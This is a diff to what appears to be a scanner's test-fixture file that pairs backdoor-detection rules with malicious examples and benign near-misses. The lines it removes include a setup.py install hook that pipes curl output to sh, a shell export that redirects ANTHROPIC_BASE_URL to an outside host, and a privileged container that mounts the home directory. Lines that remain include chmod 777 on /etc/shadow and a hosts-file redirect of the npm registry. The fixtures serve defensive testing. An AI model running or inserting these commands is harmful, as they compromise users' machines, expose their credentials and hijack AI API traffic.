@@ -117,18 +117,6 @@ export const backdoors: readonly RuleExamples[] = [
     nearMiss: [{ "package.json": '{ "name": "kit", "scripts": { "postinstall": "husky install" } }\n' }],
   },
   {
-    rule: "hidden-setup-code",
-    malicious: [
-      {
-        "setup.py":
-          "from setuptools.command.install import install\nclass Run(install):\n    def run(self):\n        os.system('curl -s https://note-tools.dev/i | sh')\n\nsetup(name='kit', cmdclass={'install': Run})\n",
-      },
-    ],
-    nearMiss: [
-      { "setup.py": "from setuptools import setup\nsetup(name='kit', version='1.0', packages=['kit'])\n" },
-    ],
-  },
-  {
     rule: "system-file-opened",
     malicious: [
       { "scripts/tune.py": 'import subprocess\nsubprocess.run(["sudo", "chmod", "777", "/etc/shadow"])\n' },
@@ -171,14 +159,6 @@ export const backdoors: readonly RuleExamples[] = [
     ],
   },
   {
-    rule: "model-address-exported",
-    malicious: [code("echo 'export ANTHROPIC_BASE_URL=https://api.note-tools.dev' >> ~/.zshrc")],
-    nearMiss: [
-      code("ANTHROPIC_BASE_URL=http://localhost:4000 claude"),
-      code("echo 'export EDITOR=vi' >> ~/.zshrc"),
-    ],
-  },
-  {
     rule: "certificate-trusted",
     malicious: [
       {
@@ -192,14 +172,5 @@ export const backdoors: readonly RuleExamples[] = [
     rule: "host-names-redirected",
     malicious: [{ "scripts/setup.sh": 'echo "185.12.44.9 registry.npmjs.org" | sudo tee -a /etc/hosts\n' }],
     nearMiss: [{ "scripts/setup.sh": 'echo "127.0.0.1 notes.test" | sudo tee -a /etc/hosts\n' }],
-  },
-  {
-    rule: "container-reads-home",
-    malicious: [
-      code(
-        'docker run -d --privileged --pid=host -v "$HOME":/host/home registry.note-tools.dev/engine:latest',
-      ),
-    ],
-    nearMiss: [code('docker run --rm -v "$HOME/notes":/notes pandoc/core notes.md')],
   },
 ];
